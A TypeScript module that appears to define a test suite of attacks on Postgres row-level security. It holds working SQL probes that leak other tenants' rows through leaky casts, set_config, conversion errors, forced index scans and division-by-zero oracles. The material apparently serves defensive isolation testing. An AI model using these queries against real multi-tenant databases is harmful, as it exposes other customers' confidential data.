import { literal } from '../connection.ts'
import { groundRow, type Side } from '../rehearsal/side.ts'
import type { PostgresAttack } from './postgres-attack.ts'
import { sight } from './sight.ts'
import { twin } from './twin.ts'

/** Row security is only one more condition: these try to have a condition of their own checked first. */
const NO_INDEXES =
  'set enable_indexscan = off; set enable_bitmapscan = off; set enable_indexonlyscan = off; set enable_tidscan = off'
const NO_SEQUENTIAL =
  'set enable_seqscan = off; set enable_indexscan = on; set enable_bitmapscan = on'

/** The target's value, and NULL for everybody else's rows: those would be quoted first. */
const of = ({ key }: Side, column: string) =>
  `(case when tenant_id = ${literal(key)} then ${column} end)`

/** Conditions and expressions that betray the rows they are evaluated on. */
export const LEAKS: readonly PostgresAttack[] = [
  sight(
    {
      id: 'pg-leaky-cast',
      title: 'Casts that quote the value they fail on, with index scans off',
      kind: 'read',
      references: ['PG-34', 'PG-70'],
    },
    (target) => [
      NO_INDEXES,
      `select 1 from ground.note where ${of(target, 'title')}::int > 0`,
      `select 1 from ground.note where ${of(target, 'body')}::uuid is null`,
      `select 1 from ground.reply where ${of(target, 'body')}::jsonb is not null`,
      `select 1 from ground.note where ${of(target, 'title')}::date > now() and amount >= 0`,
      NO_SEQUENTIAL,
      `select 1 from ground.note where state = 'open' and ${of(target, 'title')}::int > 0`,
      `select 1 from ground.note order by ${of(target, 'title')}::int`,
      `select 1 from ground.open_note where ${of(target, 'title')}::int > 0`,
    ],
  ),
  sight(
    {
      id: 'pg-leaky-setting',
      title: 'A cheap function in WHERE that stores each value it is shown in a setting',
      kind: 'read',
      references: ['PG-34'],
    },
    () => [
      NO_INDEXES,
      "select 1 from ground.note where set_config('my.sight', coalesce(current_setting('my.sight', true), '') || title, false) = ''",
      "select current_setting('my.sight', true)",
      "select 1 from ground.reply where set_config('my.sight', body, false) = '' and false",
      "select 1 from ground.event where set_config('my.sight', payload, false) is null or happened_on > '2025-01-01'",
      "select current_setting('my.sight', true)",
    ],
  ),
  sight(
    {
      id: 'pg-leaky-format',
      title: 'Conversions, patterns and dates that fail on what they see',
      kind: 'read',
      references: ['PG-34'],
    },
    (target) => {
      const title = of(target, 'title')
      return [
        NO_INDEXES,
        `select 1 from ground.note where to_timestamp(${title}, 'YYYY') is null`,
        `select 1 from ground.note where convert_from('x', ${title}) is null`,
        `select 1 from ground.note where current_setting(${title}) is null`,
        `select 1 from ground.note where 'x' ~ ('(' || ${title})`,
        `select 1 from ground.note where to_tsquery(${title} || ' &') is null`,
        `select 1 from ground.note where ${title}::regclass is null`,
        `select 1 from ground.note where ${title}::regtype is null`,
        `select 1 from ground.note where (now() at time zone ${title}) is null`,
      ]
    },
  ),
  sight(
    {
      id: 'pg-leaky-index-expression',
      title: 'Operators of an index with the rows of all tenants, indexes forced',
      kind: 'read',
      references: ['PG-35', 'CVE-2017-7484', 'CVE-2019-10130'],
    },
    () => [
      NO_SEQUENTIAL,
      "select title from ground.note where title >= '' order by title desc limit 5",
      "select title from ground.note where tenant_id >= '00000000-0000-0000-0000-000000000000'",
      'select max(title), min(title) from ground.note',
      "select title from ground.note where state in ('open', 'closed', 'insolvent')",
      'select title from ground.note where amount between -9e18::bigint and 9e18::bigint',
    ],
  ),
  twin(
    {
      id: 'pg-leaky-division',
      title: 'A division by zero that only a certain hidden value can cause',
      kind: 'existence',
      references: ['PG-34', 'PG-70'],
    },
    {
      arrange: (victim, marker) => [
        `insert into ground.note (tenant_id, title, amount) values (${literal(victim.key)}, ${literal(marker)}, 4711)`,
      ],
      values: () => ({ real: '4711', nobody: '815' }),
      probe: (value) => [
        `${NO_INDEXES}; select 1 from ground.note where 1 / (amount - ${value}) = 5`,
        `select 1 from ground.note where power(amount - ${value}, -1) = 5`,
        `select 1 from ground.note where ln(abs(amount - ${value})) = 5`,
        `${NO_SEQUENTIAL}; select 1 from ground.note where amount >= ${value} and 1 / (amount - ${value}) = 5`,
        `select max(1 / (amount - ${value})) from ground.note`,
      ],
    },
  ),
  twin(
    {
      id: 'pg-filtered-count',
      title: 'Counts and existence filtered by a value that only the victim has',
      kind: 'existence',
      references: ['PG-1'],
    },
    {
      values: ({ victim }) => ({
        real: literal(String(groundRow(victim, 'note')['id'])),
        nobody: literal(crypto.randomUUID()),
      }),
      probe: (value) => [
        `select count(*) from ground.note where id = ${value}`,
        `select exists (select from ground.note where id = ${value})`,
        `select count(*) from ground.reply where note_id = ${value}`,
        `select coalesce((select 1 from ground.open_note where id = ${value}), 0)`,
        `select from ground.note where id = ${value} for update nowait`,
      ],
    },
  ),
]
